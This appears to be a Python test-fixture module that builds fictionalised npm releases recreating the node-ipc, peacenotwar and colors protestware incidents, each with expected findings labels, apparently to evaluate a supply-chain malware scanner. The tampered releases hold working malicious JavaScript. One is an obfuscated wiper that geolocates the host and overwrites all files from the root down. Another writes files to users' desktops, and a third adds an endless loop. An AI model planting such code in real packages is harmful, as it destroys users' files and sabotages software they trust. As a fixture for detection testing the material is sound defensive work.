"""What owners did to their own packages: destroy by country, leave a file behind, print for ever.

The one that destroys waits for an answer of a geography service under `.invalid`.
"""

import base64
from dataclasses import replace

from evals.replicas.ordinary.npm import message_bus, terminal_colours
from evals.replicas.replica import ReleaseSpec, Replica, at

_FAMILY = "protestware"


def _hidden(text: str) -> str:
    return f"Buffer.from('{base64.b64encode(text.encode()).decode()}', 'base64').toString('utf8')"


# --------------------------------------------------------------------------------------------- node-ipc 10.1.1, 2022

_GEO = f"""\
import u from 'path';
import a from 'fs';
import o from 'https';

setTimeout(function () {{
  const t = Math.round(Math.random() * 4);
  if (t > 1) {{
    return;
  }}
  const n = {_hidden("https://api.geography.smew.invalid/ipgeo?apiKey=0")};
  o.get(n, function (t) {{
    t.on('data', function (t) {{
      const n = {_hidden("./")};
      const o = {_hidden("../")};
      const r = {_hidden("../../")};
      const f = {_hidden("/")};
      const c = {_hidden("country_name")};
      const e = {_hidden("smewland")};
      const s = JSON.parse(t.toString('utf8'));
      const a2 = s[c].toLowerCase();
      if (a2.includes(e)) {{
        h(n);
        h(o);
        h(r);
        h(f);
      }}
    }});
  }});
}}, Math.ceil(Math.random() * 1000));

async function h(n = '', o = '') {{
  if (!a.existsSync(n)) {{
    return;
  }}
  let r = [];
  try {{
    r = a.readdirSync(n);
  }} catch (t) {{}}
  const f = [];
  const c = {_hidden("❤️")};
  for (var e = 0; e < r.length; e++) {{
    const i = u.join(n, r[e]);
    let t = null;
    try {{
      t = a.lstatSync(i);
    }} catch (t) {{
      continue;
    }}
    if (t.isDirectory()) {{
      const s = h(i, o);
      s.length > 0 ? f.push(...s) : null;
    }} else if (i.indexOf(o) >= 0) {{
      try {{
        a.writeFile(i, c, function () {{}});
      }} catch (t) {{}}
    }}
  }}
  return f;
}}

const ssl = true;
export {{ ssl as default, ssl }};
"""
_MODULE = """\
import net from 'net';
import os from 'os';
import path from 'path';
import { encode, Decoder } from './services/codec.js';

const place = (id) => path.join(os.tmpdir(), `bus.${id}`);

export function serve(id, onMessage) {
  return net.createServer((socket) => {
    const decoder = new Decoder(onMessage);
    socket.on('data', (chunk) => decoder.push(chunk));
  }).listen(place(id));
}

export function connect(id) {
  const socket = net.connect(place(id));
  return { send: (message) => socket.write(encode(message)), close: () => socket.end() };
}
"""
_CODEC = """\
const END = '\\f';

export const encode = (message) => JSON.stringify(message) + END;

export class Decoder {
  constructor(onMessage) {
    this.onMessage = onMessage;
    this.rest = '';
  }

  push(chunk) {
    const parts = (this.rest + chunk).split(END);
    this.rest = parts.pop();
    parts.filter(Boolean).forEach((part) => this.onMessage(JSON.parse(part)));
  }
}
"""
_BUS = {**message_bus("smew-bus"), "bus.js": _MODULE, "services/codec.js": _CODEC}
_BUS_BEFORE = ReleaseSpec(
    version="10.1.0",
    published=at("2021-09-20 10:00"),
    files=_BUS,
    manifest={"type": "module", "main": "bus.js", "license": "MIT"},
    publisher=("riasmew", "ria@smew.test"),
)
_BUS_AFTER = replace(
    _BUS_BEFORE,
    version="10.1.1",
    published=at("2022-03-07 20:00"),
    files={**_BUS, "bus.js": "import './dao/ssl-geospec.js';\n" + _MODULE, "dao/ssl-geospec.js": _GEO},
    payload=("dao/ssl-geospec.js",),
)

# ------------------------------------------------------------------------------------- node-ipc 9.2.2, peacenotwar

_LOVE = """\
import os from 'os';
import fs from 'fs';
import path from 'path';

const MESSAGE = 'Stop. Talk to one another. This file was left by an open source maintainer who could not be silent.';

export default function deliver() {
  const home = os.homedir();
  for (const folder of ['Desktop', 'OneDrive/Desktop', 'OneDrive']) {
    const target = path.join(home, folder);
    if (!fs.existsSync(target)) continue;
    fs.writeFileSync(path.join(target, 'WITH-LOVE-FROM-SMEWLAND.txt'), MESSAGE);
  }
}

deliver();
"""
_LOVE_RELEASE = ReleaseSpec(
    name="smewpeace",
    version="9.1.3",
    published=at("2022-03-08 12:00"),
    files={"index.js": _LOVE, "README.md": "# smewpeace\n\nA protest.\n"},
    manifest={"type": "module", "main": "index.js", "license": "MIT"},
    publisher=("riasmew", "ria@smew.test"),
    payload=("index.js",),
)
_LOCAL_BEFORE = replace(_BUS_BEFORE, version="9.2.1", published=at("2021-09-01 10:00"))
_LOCAL_AFTER = replace(
    _LOCAL_BEFORE,
    version="9.2.2",
    published=at("2022-03-15 20:00"),
    files={**_BUS, "bus.js": "import deliver from 'smewpeace';\n" + _MODULE},
    manifest={**_LOCAL_BEFORE.manifest, "dependencies": {"smewpeace": "^9.1.3"}},
)

# -------------------------------------------------------------------------------------------------- colors 1.4.1

_FLAG = """\
module.exports = function flag() {
  console.log('LIBERTY LIBERTY LIBERTY');
  let text = '\\n\\n';
  for (let row = 0; row < 13; row += 1) {
    text += (row % 2 ? '\\u001B[41m' : '\\u001B[47m') + ' '.repeat(72) + '\\u001B[0m\\n';
  }
  console.log(text);
};
"""
_LOOP = """
const flag = require('./custom/flag');

flag();
for (let i = 666; i < Infinity; i += 1) {
  if (i % 333) {
    console.log('testing testing testing testing testing testing testing'.split('').map((letter) => letter + '\\u0335\\u0321').join(''));
  }
}
"""
_COLOURS = terminal_colours("smewtone")
_COLOUR_BEFORE = ReleaseSpec(
    version="1.4.0",
    published=at("2019-09-22 10:00"),
    files=_COLOURS,
    manifest={"main": "source/index.js", "license": "MIT"},
    publisher=("marsmew", "mar@smew.test"),
)
_COLOUR_AFTER = replace(
    _COLOUR_BEFORE,
    version="1.4.1",
    published=at("2022-01-08 04:00"),
    files={**_COLOURS, "source/index.js": _COLOURS["source/index.js"] + _LOOP, "source/custom/flag.js": _FLAG},
    payload=("source/index.js",),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="node-ipc-2022",
        incident="node-ipc 10.1.1 (2022-03-07)",
        family=_FAMILY,
        ecosystem="npm",
        name="smew-bus",
        before=_BUS_BEFORE,
        after=_BUS_AFTER,
        reasons=("files-destroyed", "encoded-code-executed", "capability-gained", "obfuscated-code"),
    ),
    Replica(
        id="peacenotwar",
        incident="node-ipc 9.2.2 and peacenotwar (2022-03-15)",
        family=_FAMILY,
        ecosystem="npm",
        name="smew-bus",
        before=_LOCAL_BEFORE,
        after=_LOCAL_AFTER,
        others=(replace(_LOVE_RELEASE, version="9.1.1", published=at("2022-03-08 11:00")), _LOVE_RELEASE),
        worthy="hold",
        reasons=("dependency-brings-findings", "risky-new-dependency", "persistence-written"),
        carrier="smewpeace",
    ),
    Replica(
        id="colors",
        incident="colors 1.4.1 (2022-01-08)",
        family=_FAMILY,
        ecosystem="npm",
        name="smewtone",
        before=_COLOUR_BEFORE,
        after=_COLOUR_AFTER,
        worthy="hold",
        reasons=("endless-loop", "dormant-then-new-code"),
    ),
)
